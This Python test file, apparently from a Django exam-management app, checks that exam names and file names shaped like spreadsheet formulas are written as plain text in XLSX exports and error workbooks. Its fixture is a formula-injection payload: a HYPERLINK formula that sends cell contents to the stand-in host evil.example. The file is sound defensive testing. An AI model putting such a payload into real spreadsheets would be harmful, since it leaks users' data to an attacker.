"""Exports write user text as text (issue 8, finding 12): an exam named like a formula, in the
export's note line, stays a string, and so does every cell of the import workbooks."""

from __future__ import annotations

import io

import openpyxl
from django.urls import reverse

from core.importing import errors_workbook
from tests.conftest import Cast
from tests.quality.factories import make_exam

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'


def test_an_exam_named_like_a_formula_exports_as_text(cast: Cast) -> None:
    exam = make_exam(cast.county_a, name=FORMULA, blueprint=False)
    response = cast.client("county_researcher").get(reverse("quality:exam_detail", args=[exam.pk]),
                                                    {"format": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    note = sheet["A1"]
    assert note.data_type == "s" and str(note.value).startswith(FORMULA)


def test_the_error_report_writes_a_formula_like_file_name_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(errors_workbook(FORMULA, [(2, "=A1", "=1+1")])))
    sheet = book.active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type in ("s", "n") for c in cells)
